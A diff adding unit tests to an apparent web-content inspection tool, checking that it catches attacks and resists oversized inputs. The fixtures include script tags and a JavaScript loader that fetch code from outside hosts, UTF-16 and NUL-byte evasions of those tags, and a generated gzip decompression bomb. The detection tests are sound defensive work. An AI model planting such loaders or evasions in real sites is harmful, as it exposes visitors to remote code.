@@ -6,11 +6,14 @@
 #include "inspection/script/scriptfacts.h"
 #include "inspection/text.h"
 #include "inspection/url.h"
+#include "inspection/worker/inspectworker.h"
 #include "support/tempfolder.h"
 
 #include <QTest>
 
 #include <sys/stat.h>
+#include <thread>
+#include <zlib.h>
 
 using namespace akimori;
 using namespace akimori::inspection;
@@ -68,6 +71,106 @@ private slots:
         const InspectionResult result = inspectTree(folder.bytes(), options(), job);
         QVERIFY(isUnchecked(result, "line.html"));
         QCOMPARE(result.checked, 0);
+    }
+
+    void hugeFilesOfEveryKindEndAndAreNeverOk()
+    {
+        const test::TempFolder folder;
+        folder.write("attributes.html", "<p " + QByteArray("a=b ").repeated(3'000'000) + ">");
+        folder.write("tags.html", "<html><body>" + QByteArray("<b><i><font>").repeated(400'000));
+        folder.write("line.js", QByteArray("a=[(b,c)=>'x'+\"y\"];").repeated(50'000'000 / 20));
+        folder.write("deep.js", QByteArray("f(function(){").repeated(500'000));
+        folder.write("style.html", "<style>" + QByteArray(".a b{left:-999px}").repeated(300'000) + "</style><b class=a>");
+        JobContext job;
+        const InspectionResult result = inspectTree(folder.bytes(), options(), job);
+        for (const char* name : {"tags.html", "line.js", "deep.js"})
+            QVERIFY2(isUnchecked(result, name), name);
+        QCOMPARE(static_cast<qint64>(result.unchecked.size()) + result.checked, 5);
+        QVERIFY(result.verdict() != Verdict::Ok);
+    }
+
+    void otherEncodingsOfAnAttackAreRead()
+    {
+        const QByteArray page = "<html><body><script src=http://203.0.113.9/x.js></script></body></html>";
+        QByteArray wide;
+        for (const char c : page)
+            wide += QByteArray(1, c) + '\0';
+        QByteArray holes = page;
+        holes.replace("<script", QByteArray("<scr\0ipt", 9));
+        const test::TempFolder folder;
+        folder.write("marked.html", "\xFF\xFE" + wide);
+        folder.write("bare.html", wide);
+        folder.write("nul.html", holes);
+        folder.write("nothing.html", QByteArray(5'000'000, '\0'));
+        JobContext job;
+        const InspectionResult result = inspectTree(folder.bytes(), options(), job);
+        for (const char* name : {"marked.html", "bare.html", "nul.html"})
+            QVERIFY2(hasRule(result, name, "H05"), name);
+        QVERIFY(hasRule(result, "nul.html", "H19"));
+    }
+
+    void compressedBombsAreNotUnfolded()
+    {
+        // 64 MiB of zeros in a few kilobytes; the page beside it is small.
+        QByteArray bomb(80 << 10, Qt::Uninitialized);
+        z_stream stream{};
+        QCOMPARE(::deflateInit2(&stream, 9, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY), Z_OK);
+        QByteArray zeros(1 << 20, '\0');
+        stream.next_out = reinterpret_cast<Bytef*>(bomb.data());
+        stream.avail_out = static_cast<uInt>(bomb.size());
+        for (int i = 0; i < 64; ++i) {
+            stream.next_in = reinterpret_cast<Bytef*>(zeros.data());
+            stream.avail_in = static_cast<uInt>(zeros.size());
+            ::deflate(&stream, i == 63 ? Z_FINISH : Z_NO_FLUSH);
+        }
+        bomb.truncate(static_cast<qsizetype>(stream.total_out));
+        ::deflateEnd(&stream);
+        const test::TempFolder folder;
+        folder.write("index.html", "<p>x</p>");
+        folder.write("index.html.gz", bomb);
+        folder.write("data.gz", bomb);
+        JobContext job;
+        const InspectionResult result = inspectTree(folder.bytes(), options(), job);
+        QVERIFY(hasRule(result, "index.html.gz", "F11") || isUnchecked(result, "index.html.gz"));
+        QVERIFY(isUnchecked(result, "data.gz")); // nothing to compare it with: never "no anomaly"
+    }
+
+    void aHelperThatHangsIsKilled()
+    {
+        const test::TempFolder folder;
+        const QByteArray program = folder.write("hang", "#!/bin/sh\n: >\"${0%/*}/started\"\nexec sleep 600\n", 0755);
+        folder.write("site/index.html", "<p>x</p>");
+        InspectionOptions hanging = options();
+        hanging.helper = program;
+        JobContext job;
+        std::thread impatient([&] {
+            while (!folder.exists("started"))
+                std::this_thread::yield();
+            job.cancel();
+        });
+        QVERIFY_THROWS_EXCEPTION(Error, inspectTree(folder.at("site"), hanging, job));
+        impatient.join();
+        QVERIFY(InspectWorker::deadlineFor(50'000'000) < std::chrono::seconds(60)); // and without anybody's help
+    }
+
+    void codeAttachedToAnApprovedScriptIsFound()
+    {
+        const QByteArray approved = "function menu(){var m=document.getElementById('m');m.classList.toggle('open');}\n";
+        const QByteArray loader = "(function(){var a=document.createElement('script');a.src='https://files.globex-media.net/t.js';"
+                                  "document.head.appendChild(a)})();\n";
+        const test::TempFolder folder;
+        for (const char* name : {"behind.js", "before.js", "honest.js"})
+            folder.write(QByteArray("old/") + name, approved);
+        folder.write("new/behind.js", approved + loader);
+        folder.write("new/before.js", loader + approved);
+        folder.write("new/honest.js", approved + "function tab(n){return n+1}\n");
+        InspectionOptions both = options();
+        both.baselineDir = folder.at("old");
+        JobContext job;
+        const InspectionResult result = inspectTree(folder.at("new"), both, job);
+        QVERIFY(hasRule(result, "behind.js", "J04"));
+        QVERIFY(hasRule(result, "before.js", "J04"));
+        QVERIFY(!hasRule(result, "honest.js", "J04"));
     }
 
     void missingHelperIsUnchecked()
